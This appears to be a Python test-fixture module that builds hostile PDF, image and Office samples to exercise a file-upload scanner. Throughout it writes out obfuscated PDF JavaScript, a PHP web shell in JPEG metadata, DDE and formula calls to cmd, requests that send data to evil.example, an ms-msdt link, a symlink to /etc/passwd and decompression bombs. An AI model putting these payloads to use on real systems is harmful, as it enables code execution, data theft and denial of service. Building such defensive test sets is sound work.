"""Files that mean harm, by what they do; together with those of the readers' own tests, sent through every door."""

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

from plans.file_kinds.office import EXCEL
from tests.imports.paper import document, par, run
from tests.sample_files import PACKAGE, archive, chunk, jpeg, office, pdf, png, relations, stream

PAGE = b"<html><script>alert(1)</script></html>"
SCRIPT = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
PACKED = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(20)


def piece(marker: int, inside: bytes) -> bytes:
    """Return a segment of a JPEG."""
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(inside) + 2) + inside


def with_piece(marker: int, inside: bytes) -> bytes:
    """Return a JPEG with one more segment."""
    return b"\xff\xd8" + piece(marker, inside) + jpeg()[2:]


def png_of(header: bytes, picture: bytes, *more: bytes) -> bytes:
    """Return a PNG of any header and picture."""
    chunks = chunk(b"IHDR", header), *more, chunk(b"IDAT", picture), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def header(width: int, height: int, *rest: int) -> bytes:
    """Return the header of a PNG: size, depth, colour, and three more bytes."""
    return struct.pack(">II", width, height) + bytes(rest or (8, 0, 0, 0, 0))


def word(body: str = "", **more: str | bytes) -> bytes:
    """Return a form that Word would open; `more` are parts by name, with __ for /."""
    parts = {name.replace("__", "/"): content for name, content in more.items()}
    kept = {name: each.encode() if isinstance(each, str) else each for name, each in parts.items()}
    return document(body or par("Words"), more=kept)


def field(*codes: str) -> str:
    """Return a paragraph with a field whose code is in several runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in codes)
    begins, ends = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    return par(begins + runs + ends)


def zipped(*members: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    """Return a form with more members, as an archive's tools would not write them."""
    written = io.BytesIO(word())
    with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as file:
        for info, content in members:
            file.writestr(info, content)
    return written.getvalue()


def symlink() -> bytes:
    """A member that is a link to a file of the machine."""
    info = zipfile.ZipInfo("word/media/passwd.png")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return zipped((info, b"/etc/passwd"))


def hidden_in_extra() -> bytes:
    """A whole PDF in the room that a member's header leaves."""
    info = zipfile.ZipInfo("word/media/note.png")
    info.extra = struct.pack("<HH", 0xA220, 2_000) + pdf().ljust(2_000, b" ")
    return zipped((info, b"words"))


def begins_as_pdf() -> bytes:
    """A form whose first member is a PDF that is not packed."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as file, zipfile.ZipFile(io.BytesIO(word())) as good:
        file.writestr("word/media/x.bin", pdf())
        for name in good.namelist():
            file.writestr(name, good.read(name))
    return written.getvalue()


def other_size() -> bytes:
    """A member that is shorter in the directory than in its own header."""
    content = bytearray(word())
    place = content.index(b"PK\x03\x04")
    content[place + 22 : place + 26] = (99_000_000).to_bytes(4, "little")
    return bytes(content)


def formula(code: str) -> bytes:
    """Return a workbook with a formula."""
    return office(EXCEL, more={"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{code}</f></c></worksheet>"})


def relation(kind: str, target: str) -> bytes:
    """Return a form with a relation to something outside."""
    return word(**{"word___rels__settings.xml.rels": relations(kind, target)})


NESTED = archive({"[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>', "xl/vbaProject.bin": b"x"})
PDFS: dict[str, Callable[[], bytes]] = {
    "script behind a zero byte": lambda: pdf(b"<< /S /JavaScript\x00/JS\x00(app.alert(1)) >>"),
    "script behind a remark": lambda: pdf(b"<< /S %x\n/J#61vaScript%x\n/JS %x\n(app.alert(1)) >>"),
    "script in a string that reads like a stream": lambda: pdf(
        b"<< /X (>>stream\n) /S /JavaScript /JS (app.alert(1)) /Y (endstream) >>"
    ),
    "packed script, far from its dictionary": lambda: pdf(stream(PACKED + b" " * 5_000, zlib.compress(SCRIPT))),
    "packed script without a type": lambda: pdf(stream(b"/N 1 /First 4 /Filter /FlateDecode", zlib.compress(SCRIPT))),
    "packed script behind blanks": lambda: pdf(stream(PACKED, zlib.compress(b" " * 90_000 + SCRIPT))),
    "script packed twice": lambda: pdf(stream(PACKED, zlib.compress(zlib.compress(SCRIPT)))),
    "script packed in an odd way": lambda: pdf(
        stream(b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", SCRIPT.hex().encode() + b">")
    ),
    "packed script in a broken stream": lambda: pdf(stream(PACKED, zlib.compress(SCRIPT * 9)[:-9] + b"brokenbroken")),
    "file as an attachment": lambda: pdf(b"<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>"),
    "file without a type": lambda: pdf(b"<< /Type /Filespec /EF << /F 9 0 R >> >>"),
    "address opened at once": lambda: pdf(b"<< /OpenAction << /S /URI /URI (https://evil.example) >> >>"),
    "address opened at once, elsewhere": lambda: pdf(
        b"<< /OpenAction 5 0 R >>", b"<< /S /URI /URI (https://evil.example) >>"
    ),
    "action of a page": lambda: pdf(b"<< /AA << /O 9 0 R >> >>"),
    "form that is sent": lambda: pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
    "form of scripts": lambda: pdf(b"<< /AcroForm << /XFA 9 0 R >> >>"),
    "password behind a remark": lambda: pdf(trailer=b"<< /Root 1 0 R /Encrypt%x\n9 0 R >>"),
    "page in a remark": lambda: pdf().replace(b"%\xe2\xe3", b"%" + PAGE + b"\n%\xe2\xe3"),
    "RAR archive in a stream": lambda: pdf(stream(b"", RAR)),
    "streams without number": lambda: pdf(*[stream(b"/X /Y", b"a")] * 60_000),
    "blanks without end": lambda: pdf(stream(PACKED, zlib.compress(bytes(250_000_000)))),
}
PICTURES: dict[str, Callable[[], bytes]] = {
    "PNG with a page in a text": lambda: png(1, 1, chunk(b"tEXt", b"Comment\x00" + PAGE)),
    "PNG with a RAR archive": lambda: png(1, 1, chunk(b"zzZz", RAR)),
    "PNG bomb": lambda: png_of(header(1, 1), zlib.compress(bytes(200_000_000))),
    "PNG whose size is a bomb": lambda: png_of(header(9_000, 9_000, 16, 6, 0, 0, 0), zlib.compress(b"\x00")),
    "PNG with a text that is a bomb": lambda: png(1, 1, chunk(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(90_000_000)))),
    "PNG with a profile that is a bomb": lambda: png(1, 1, chunk(b"iCCP", b"x\x00\x00" + zlib.compress(bytes(90_000_000)))),
    "PNG with less than its size": lambda: png_of(header(500, 500), zlib.compress(bytes(50))),
    "PNG of no colour": lambda: png_of(header(1, 1, 8, 7, 0, 0, 0), zlib.compress(bytes(2))),
    "PNG without its palette": lambda: png_of(header(1, 1, 8, 3, 0, 0, 0), zlib.compress(bytes(2))),
    "PNG with data behind the picture's": lambda: png_of(header(1, 1), zlib.compress(bytes(2)) + PAGE),
    "PNG with a needed chunk of nobody": lambda: png(1, 1, chunk(b"EVIL", b"x")),
    "JPEG with a page in a comment": lambda: with_piece(0xFE, PAGE),
    "JPEG with a program of PHP": lambda: with_piece(0xE1, b"Exif\x00\x00<?php system($_GET[0]); ?>"),
    "JPEG with an archive in a comment": lambda: with_piece(0xFE, archive({"evil.class": "x"})),
    "JPEG with a RAR archive": lambda: with_piece(0xFE, RAR),
    "JPEG far larger than its data": lambda: jpeg(9_000, 9_000),
    "JPEG as wide as a street": lambda: jpeg(65_000, 65_000),
    "JPEG of two sizes": lambda: jpeg().replace(b"\xff\xda", piece(0xC0, bytes([8, 0, 9, 0, 9, 1, 1, 17, 0])) + b"\xff\xda"),
    "JPEG whose frame is cut": lambda: jpeg().replace(b"\x00\x0b\x08\x00\x08\x00\x08\x01", b"\x00\x0b\x08\x00\x08\x00\x08\x03"),
    "JPEG of padding": lambda: b"\xff\xd8\xff" + b"\xff" * 9_000_000,
    "JPEG of pieces without number": lambda: jpeg(picture=b"\xff\x01" * 400_000),
}  # fmt: skip
OFFICE: dict[str, Callable[[], bytes]] = {
    "Word that calls a program in pieces": lambda: word(field("DD", "EAU", "TO c:\\\\x\\\\cmd.exe")),
    "Word that calls a program in small letters": lambda: word(field(" ddeauto ", "cmd /c calc")),
    "Word that calls a program in codes": lambda: word(field(" &#68;&#x44;E cmd calc")),
    "Word that calls a program in one element": lambda: word(
        f'<w:p><w:fldSimple w:instr=" DDEAUTO cmd calc ">{run("x")}</w:fldSimple></w:p>'
    ),
    "Word with a text from the net": lambda: word(field(' INCLUDETEXT "https://evil.example/x.docx" ')),
    "Word with a picture from a share in a field": lambda: word(field(' INCLUDEPICTURE "\\\\evil.example\\x.png" \\d ')),
    "Word with a frame from the net": lambda: relation("frame", "https://evil.example/"),
    "Word with an object from the net": lambda: relation("oleObject", "https://evil.example/x.html!"),
    "Word with a link that runs": lambda: relation("hyperlink", "javascript:alert(1)"),
    "Word with a link to a tool": lambda: relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "Word with an old file under another name": lambda: word(**{"word__media__x.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "Word with a program under another name": lambda: word(**{"word__media__x.png": b"MZ\x90\x00"}),
    "Word with macros in a workbook": lambda: word(**{"word__embeddings__x.xlsx": NESTED}),
    "Word with an archive in an archive": lambda: word(
        **{"word__embeddings__x.xlsx": archive({"[Content_Types].xml": "<x/>", "a.xlsx": NESTED})}
    ),
    "Word with a drawing that runs": lambda: word(**{"word__media__x.svg": "<svg><script>alert(1)</script></svg>"}),
    "Word with XML in another alphabet": lambda: word(
        **{"word__x.xml": "<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE x+AD4-"}
    ),
    "Word with a part that is no XML": lambda: word(**{"word__x.xml": "alert(1)"}),
    "Word with a PDF in a header": hidden_in_extra,
    "Word that begins as a PDF": begins_as_pdf,
    "Word with a link to a file of the machine": symlink,
    "Word with another size in its header": other_size,
    "Word with a name behind a zero": lambda: zipped((zipfile.ZipInfo("word/x.xml"), b"<x/>")).replace(
        b"word/x.xml", b"word/\x00.xml"
    ),
    "Word with a name of a drive": lambda: word(**{"C:__x.xml": "<x/>"}),
    "Excel with a call in a formula": lambda: formula("cmd|'/c calc'!A0"),
    "Excel with a call in codes": lambda: formula("cmd&#124;&apos;/c calc&apos;!A0"),
    "Excel with a call by name": lambda: formula('DDE("cmd";"/c calc";"x")'),
    "Excel that asks the net": lambda: formula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
    "Excel with a query of the net": lambda: office(
        EXCEL, more={"xl/connections.xml": '<connections><connection><webPr url="https://evil.example"/></connection></connections>'}
    ),
    "Excel with entities": lambda: office(
        EXCEL, more={"xl/sharedStrings.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><sst>&b;</sst>'}
    ),
    "Excel that unpacks to too much": lambda: office(EXCEL, more={"xl/worksheets/sheet1.xml": bytes(90_000_000)}),
    "Excel of no kind": lambda: office(EXCEL, without="_rels/.rels"),
    "Word that is too large": lambda: word(**{"word__media__x.png": random.Random(1).randbytes(10_500_000)}),
}  # fmt: skip
HOSTILE = PDFS | PICTURES | OFFICE
